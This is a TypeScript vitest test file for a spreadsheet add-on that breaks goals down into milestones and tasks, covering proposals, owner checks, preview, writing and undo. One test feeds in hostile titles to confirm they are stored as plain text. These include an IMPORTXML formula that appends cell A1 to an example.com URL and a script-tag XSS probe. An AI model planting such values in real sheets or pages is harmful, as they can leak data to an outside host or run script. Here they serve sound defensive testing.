import { describe, expect, it } from 'vitest';
import type {
  BreakDownDraft,
  BreakDownOpened,
  BreakDownPreview,
  BreakDownWritten,
  DraftMilestone,
  OwnerVerdict,
  ProposedDraft,
} from '../../../src/addon/sidebars/break-down-contract';
import { serialOfDay } from '../../../src/plan/day';
import { copyWorkbook } from '../../../src/preview/copy-workbook';
import { day } from '../../plan/plan-rows';
import { Example } from '../../sidebars/example';

const open = (example: Example, parentId = '') =>
  example.ask('openBreakDown', { parentId }).value as BreakDownOpened;
const preview = (example: Example, draft: BreakDownDraft) =>
  example.ask('previewBreakDown', draft).value as BreakDownPreview;
const write = (example: Example, draft: BreakDownDraft) =>
  example.ask('writeBreakDown', draft).value as BreakDownWritten;
const judge = (example: Example, text: string, itemId = 'G1') =>
  example.ask('judgeOwner', { text, itemId }).value as OwnerVerdict;

const task = { key: 't1', title: 'Call five prospects', owner: 'Priya Raman', due: '2026-11-27' };
const milestone: DraftMilestone = {
  key: 'm1',
  title: 'Reach 220',
  owner: 'Ingrid Solvang',
  metric: 'Revenue',
  baseline: '180',
  target: '220',
  start: '2026-11-23',
  due: '2027-02-20',
  tasks: [task],
};
const draft: BreakDownDraft = { parentId: 'G1', milestones: [milestone], tasks: [] };

describe('opening', () => {
  const windows = ({ proposal }: BreakDownOpened) =>
    proposal!.milestones.map(({ start, due, baseline, target }) => [start, due, baseline, target]);

  it('takes the selected goal, and proposes milestones from where it stands today to its due date', async () => {
    const example = await Example.open();
    example.select('Goals', 'G1');
    const opened = open(example);
    const { parent, proposal, weekEnd } = opened;
    expect(parent).toMatchObject({ id: 'G1', kind: 'goal', baseline: '180', target: '260', current: '212' });
    expect(windows(opened)).toEqual([
      ['2026-11-23', '2027-01-18', '212', '236'],
      ['2027-01-19', '2027-03-15', '236', '260'],
    ]);
    expect(proposal!.milestones[0]!.tasks).toEqual([
      { key: 't1', title: '', owner: 'Ingrid Solvang', due: weekEnd },
    ]);
    expect(weekEnd).toBe('2026-11-27');
  });

  it('takes the last value that somebody gave, where the row holds none', async () => {
    const example = await Example.open({ now: () => new Date('2026-11-30T12:00:00Z') });
    example.cell('Milestones', 'M2', 'Current').value = '';
    const work = [{ id: 'M2', value: '', confidence: 'Red', note: 'No news.' }];
    example.ask('saveCheckIn', { who: 'Ingrid Solvang', work, tasks: [] });
    expect(open(example, 'M2').parent!.current).toBe('22');
  });

  it('proposes them from its start where that is not longer ago than a check-in', async () => {
    const example = await Example.open();
    example.script.hand().type(`Goals!H${example.row('Goals', 'G1').row}`, '2026-11-18');
    expect(windows(open(example, 'G1'))[0]!.slice(0, 3)).toEqual(['2026-11-18', '2027-01-15', '180']);
  });

  it('takes the milestone above a selected task', async () => {
    const example = await Example.open();
    example.select('Tasks', 'T25');
    expect(open(example).parent).toMatchObject({ id: 'M9', kind: 'milestone' });
  });

  it('asks where nothing is selected, and says when a goal has no due date', async () => {
    const example = await Example.open();
    const asked = open(example);
    expect(asked.parent).toBeNull();
    expect(asked.choices.map(({ id }) => id)).toEqual(expect.arrayContaining(['G1', 'G5', 'M9']));
    expect(asked.choices.map(({ id }) => id)).not.toContain('T1');
    expect(open(example, 'G5').proposal).toMatchObject({
      milestones: [],
      hint: expect.stringContaining('due'),
    });
  });

  it('proposes again for other choices', async () => {
    const example = await Example.open();
    const { proposal } = open(example, 'G1');
    const { milestones } = example.ask('proposeMilestones', {
      ...proposal!.choices,
      start: '2026-11-23',
      baseline: '212',
      alignment: 'quarters',
      shape: 'back-loaded',
    }).value as ProposedDraft;
    expect(milestones.map(({ due }) => due)).toEqual(['2026-12-31', '2027-03-15']);
    expect(milestones[0]!.baseline).toBe('212');
    expect(Number(milestones[0]!.target)).toBeLessThan(212 + 48 * (39 / 113));
  });

  it('offers no people who have left', async () => {
    const example = await Example.open();
    const { people } = open(example, 'G1');
    expect(people).toContain('Priya Raman');
    expect(people).not.toContain('Lena Brandt');
  });
});

describe('an owner', () => {
  it('is a person by name, first name or address', async () => {
    const example = await Example.open();
    for (const text of ['Priya Raman', 'priya', 'priya.raman@example.com', 'Raman, Priya'])
      expect(judge(example, text)).toEqual({
        name: 'Priya Raman',
        message: '',
        suggestions: [],
        stops: false,
      });
  });

  it('is refused as a team, with the person of it who works there', async () => {
    const example = await Example.open();
    expect(judge(example, 'Sales team')).toMatchObject({
      stops: true,
      message: '"Sales team" is a team. It probably means Priya Raman.',
      suggestions: ['Priya Raman'],
    });
  });

  it('is refused as several people, nobody, or somebody who has left', async () => {
    const example = await Example.open();
    expect(judge(example, 'Tomasz Wilk, Mei Tanaka')).toMatchObject({
      stops: true,
      suggestions: ['Tomasz Wilk', 'Mei Tanaka'],
    });
    expect(judge(example, 'TBD')).toMatchObject({ stops: true, message: 'Name one person.' });
    expect(judge(example, 'Lena Brandt')).toMatchObject({
      stops: true,
      message: expect.stringContaining('left on'),
    });
  });

  it('is advised about, not refused, where nobody in People has that name', async () => {
    const example = await Example.open();
    expect(judge(example, 'Prya Raman')).toMatchObject({ stops: false, suggestions: ['Priya Raman'] });
  });
});

describe('the preview', () => {
  it('shows the exact rows and writes nothing', async () => {
    const example = await Example.open();
    const before = copyWorkbook(example.addOn.workbook);
    expect(preview(example, draft)).toEqual({
      problems: [],
      sheets: [
        {
          name: 'Milestones',
          rows: [
            [
              ['ID', 'M17'],
              ['Goal', 'G1 · Grow managed services revenue'],
              ['Milestone', 'Reach 220'],
              ['Owner', 'Ingrid Solvang'],
              ['Metric', 'Revenue'],
              ['Baseline', '180'],
              ['Target', '220'],
              ['Start', '23 Nov 2026'],
              ['Due', '20 Feb 2027'],
            ],
          ],
        },
        {
          name: 'Tasks',
          rows: [
            [
              ['ID', 'T41'],
              ['Milestone', 'M17 · Reach 220'],
              ['Task', 'Call five prospects'],
              ['Owner', 'Priya Raman'],
              ['Due', '27 Nov 2026'],
            ],
          ],
        },
      ],
    });
    expect(example.addOn.workbook).toEqual(before);
  });

  it('names what stands in the way, field by field', async () => {
    const example = await Example.open();
    const { problems, sheets } = preview(example, {
      parentId: 'G1',
      milestones: [
        {
          ...milestone,
          title: ' ',
          owner: 'Marketing',
          baseline: 'many',
          due: '',
          tasks: [{ ...task, owner: '', due: '2026-02-31' }],
        },
      ],
      tasks: [],
    });
    expect(sheets).toEqual([]);
    const stopping = problems.filter(({ stops }) => stops).map(({ key, field }) => `${key} ${field}`);
    expect(stopping.sort()).toEqual(
      ['m1 baseline', 'm1 due', 'm1 owner', 'm1 tasks', 'm1 title', 't1 due', 't1 owner'].sort(),
    );
  });

  it('insists on a task this week for the milestone that is running', async () => {
    const example = await Example.open();
    const later = { ...task, due: '2026-12-04' };
    const { problems } = preview(example, { ...draft, milestones: [{ ...milestone, tasks: [later] }] });
    expect(problems).toEqual([expect.objectContaining({ key: 'm1', field: 'tasks', stops: true })]);
    const notYet = { ...milestone, start: '2027-01-04', tasks: [] };
    expect(preview(example, { ...draft, milestones: [notYet] }).problems).toEqual([]);
  });

  it('advises on a milestone that is longer than a quarter', async () => {
    const example = await Example.open();
    const { problems, sheets } = preview(example, {
      ...draft,
      milestones: [{ ...milestone, due: '2027-03-14' }],
    });
    expect(problems).toEqual([expect.objectContaining({ field: 'due', stops: false })]);
    expect(sheets).toHaveLength(2);
  });
});

describe('writing', () => {
  it('adds all rows, linked, with statuses, and leaves every other cell alone', async () => {
    const example = await Example.open();
    const before = example.rows('Milestones');
    const { items, undo } = write(example, draft);
    expect(items.map(({ id }) => id)).toEqual(['M17', 'T41']);
    expect(undo?.action).toBe('Break down G1');
    expect(example.row('Milestones', 'M17').cells).toMatchObject({
      Goal: 'G1 · Grow managed services revenue',
      Owner: 'Ingrid Solvang',
      Baseline: 180,
      Target: 220,
      Start: serialOfDay(day('2026-11-23')),
      Due: serialOfDay(day('2027-02-20')),
    });
    expect(example.row('Tasks', 'T41').cells).toMatchObject({
      Milestone: 'M17 · Reach 220',
      Owner: 'Priya Raman',
    });
    expect(example.cell('Milestones', 'M17', 'Due').numberFormat).toBe('d mmm yyyy');
    const assessed = example.addOn.assessed().items.find(({ id }) => id === 'M17')!;
    expect(assessed.status).not.toBe('');
    const own = (rows: typeof before) =>
      rows.map(({ cells }) => [cells.ID, cells.Milestone, cells.Owner, cells.Due]);
    expect(own(example.rows('Milestones')).slice(0, -1)).toEqual(own(before));
  });

  it('is taken back whole by Undo, and its IDs are not given again', async () => {
    const example = await Example.open();
    const names = ['Goals', 'Milestones', 'Tasks'];
    const before = names.map(name => example.rows(name));
    const { undo } = write(example, draft);
    expect(example.ask('undoAction', undo).value).toEqual({ text: '"Break down G1" was undone.' });
    expect(names.map(name => example.rows(name))).toEqual(before);
    expect(write(example, draft).items.map(({ id }) => id)).toEqual(['M18', 'T42']);
    expect(example.ask('undoAction', undo).value).toEqual({ text: 'This was undone already.' });
  });

  it('undoes its own action though somebody did something else since, and leaves what was changed', async () => {
    const example = await Example.open();
    const { undo } = write(example, draft);
    const hand = example.script.hand();
    hand.type(`Milestones!H${example.row('Milestones', 'M2').row}`, '30');
    hand.type(`Tasks!D${example.row('Tasks', 'T41').row}`, 'Mei Tanaka');
    const { text } = example.ask('undoAction', undo).value as { text: string };
    expect(text).toContain('1 row of "Tasks" was left');
    expect(example.row('Milestones', 'M17')).toBeUndefined();
    expect(example.row('Tasks', 'T41').cells.Owner).toBe('Mei Tanaka');
    expect(example.row('Milestones', 'M2').cells.Current).toBe(30);
  });

  it('breaks a milestone down into tasks', async () => {
    const example = await Example.open();
    const { items } = write(example, {
      parentId: 'M9',
      milestones: [],
      tasks: [task, { ...task, key: 't2', title: 'Write it up', due: '2026-12-04' }],
    });
    expect(items.map(({ id, kind }) => [id, kind])).toEqual([
      ['T41', 'task'],
      ['T42', 'task'],
    ]);
    expect(example.row('Tasks', 'T42').cells.Milestone).toBe('M9 · Build the landing zone');
  });

  it('keeps hostile texts as texts', async () => {
    const example = await Example.open();
    const hostile = [
      '=IMPORTXML("http://example.com/"&A1,"//a")',
      '<script>alert(1)</script>',
      '+1',
      '3/4',
      'مرحبا 👩‍🚀',
      'x'.repeat(500),
    ];
    const tasks = hostile.map((title, at) => ({ ...task, key: `t${at}`, title }));
    const { items } = write(example, { parentId: 'M9', milestones: [], tasks });
    items.forEach(({ id }, at) => {
      const cell = example.cell('Tasks', id, 'Task');
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(hostile[at]);
    });
  });

  it('writes nothing where a field is wrong', async () => {
    const example = await Example.open();
    const before = copyWorkbook(example.addOn.workbook);
    const { problems, items, undo } = write(example, {
      ...draft,
      milestones: [{ ...milestone, owner: 'Sales' }],
    });
    expect(problems.length).toBeGreaterThan(0);
    expect([items, undo]).toEqual([[], null]);
    expect(example.addOn.workbook).toEqual(before);
  });

  it('says so where the goal was deleted meanwhile', async () => {
    const example = await Example.open();
    example.deleteRow('Goals', 'G1');
    expect(example.ask('writeBreakDown', draft).problem).toMatchObject({ code: 'row-gone' });
  });

  it('waits for another run no longer than it must, and says so', async () => {
    const example = await Example.open();
    example.script.appsScript.runtime.stores.locks.set('document', {});
    expect(example.ask('writeBreakDown', draft).problem).toMatchObject({
      code: 'another-run',
      message: expect.stringContaining('Try again'),
    });
  });

  it('gives rows that somebody typed meanwhile their own IDs', async () => {
    const example = await Example.open();
    const { stores } = example.script.appsScript.runtime;
    stores.locks.set('document', {});
    example.script.hand().type('Tasks!C42', 'Typed by hand');
    stores.locks.clear();
    const { items } = write(example, { parentId: 'M9', milestones: [], tasks: [task] });
    const ids = example.rows('Tasks').map(({ cells }) => cells.ID);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).not.toContain('');
    expect(example.row('Tasks', items[0]!.id).cells.Task).toBe('Call five prospects');
  });

  it('costs the same number of round trips for one row and for fifty', async () => {
    const trips = async (count: number) => {
      const example = await Example.open();
      const { meter } = example.script.appsScript;
      meter.reset();
      const tasks = Array.from({ length: count }, (_, at) => ({
        ...task,
        key: `t${at}`,
        title: `Task ${at}`,
      }));
      write(example, { parentId: 'M9', milestones: [], tasks });
      return meter.roundTrips;
    };
    const [one, two, fifty] = [await trips(1), await trips(2), await trips(50)];
    expect(two).toBe(one);
    expect(fifty - one).toBeLessThanOrEqual(3); // a block of rows asks where the last row is
  });
});
